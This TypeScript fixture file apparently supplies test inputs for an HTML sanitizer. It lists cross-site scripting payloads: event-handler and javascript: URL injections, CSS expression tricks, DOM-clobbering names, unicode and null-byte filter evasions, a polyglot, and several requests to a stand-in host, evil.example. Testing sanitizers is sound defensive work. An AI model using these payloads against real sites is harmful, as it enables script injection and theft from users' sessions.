/** Attributes broken open, styles, forms, names that hide the page's own, and text for several places at once. */

/** Breaking out of or into attributes. */
export const attributes: readonly string[] = [
  '<p><a href="/" title=""><script>alert(1)</script>">x</a></p>',
  '<p><a href="/"><script>alert(1)</script></a></p>',
  '<p><a href="/\'" onclick="alert(1)">x</a></p>',
  '<p><a href=/ onclick=alert(1)>x</a></p>',
  '<p><a href="/" href="javascript:alert(1)">x</a></p>',
  '<p><a HREF="javascript:alert(1)">x</a></p>',
  '<p><a\u00a0href="javascript:alert(1)">x</a></p>',
  '<p><a/href="javascript:alert(1)">x</a></p>',
  '<p><a href="/" ping="//evil.example">x</a></p>',
  '<p><a href="/" target="_top">x</a></p>',
  '<p><img src="/blog/images/abcdefghij01234" alt=""><script>alert(1)</script>"></p>',
  '<p><img src="/blog/images/abcdefghij01234" alt="&quot; onerror=&quot;alert(1)" onerror="x"></p>',
  '<p><img src="/blog/images/abcdefghij01234" srcset="//evil.example 1x" alt=""></p>',
  '<p><img alt="" src="/blog/images/abcdefghij01234"></p>',
  '<p><img src="/blog/images/abcdefghij01234" alt="&#34; onerror=alert(1) x=&#34;"></p>',
  '<p data-indent="1" style="color:red">x</p>',
  '<p data-indent="&quot;onclick=&quot;alert(1)">x</p>',
  '<p contenteditable="true">x</p>',
  '<p id="root">x</p>',
  '<p dir="rtl">x</p>',
  '<p xmlns="http://www.w3.org/2000/svg">x</p>',
  '<ol start="1e9"><li><p>x</p></li></ol>',
  '<ol start="&quot;><script>alert(1)</script>"><li><p>x</p></li></ol>',
  '<blockquote cite="javascript:alert(1)"><p>x</p></blockquote>',
];

export const styles: readonly string[] = [
  '<style>@import "//evil.example/x.css";</style>',
  "<style>*{background:url('javascript:alert(1)')}</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background:\\75rl(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p><span style="color:red">x</span></p>',
];

/** Forms, and attributes that take over an existing form. */
export const forms: readonly string[] = [
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<label for=x onclick=alert(1)>x</label>',
];

/** Names that shadow the page's own. */
export const clobbering: readonly string[] = [
  '<a id=document></a>',
  '<img name=body>',
  '<form name=document><input name=cookie></form>',
  '<a id=defaultView href="cid:alert(1)">x</a>',
  '<p id="__proto__">x</p>',
  '<p id="app" class="root">x</p>',
  '<__proto__ onclick=alert(1)>x</__proto__>',
];

/** Payloads for several contexts. */
export const polyglots: readonly string[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '"><svg/onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '--><script>alert(1)</script>',
  '</script></title></textarea></style><img src=x onerror=alert(1)>',
  '<p>{{constructor.constructor("alert(1)")()}}<script></p>',
  '<p><%= alert(1) %></p>',
  '<p>x</p>\u0000<script>alert(1)</script>',
  '<p>\u0000</p>',
  '<s\u0000cript>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u212aeygen autofocus onfocus=alert(1)>',
  '<p>\ud83d<script>alert(1)</script>\ude00</p>',
  '<p>&lt;script&gt;alert(1)&lt;/script></p>',
  '<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>',
  '<p>&lt;img src=x onerror=alert(1)&gt;<img></p>',
  '<p>&nbsp;&Tab;<x></p>',
  '<p>&bogus;</p>',
  '<p>&amp</p>',
  '<p>&</p>',
  '<p>>"\'></p>',
];
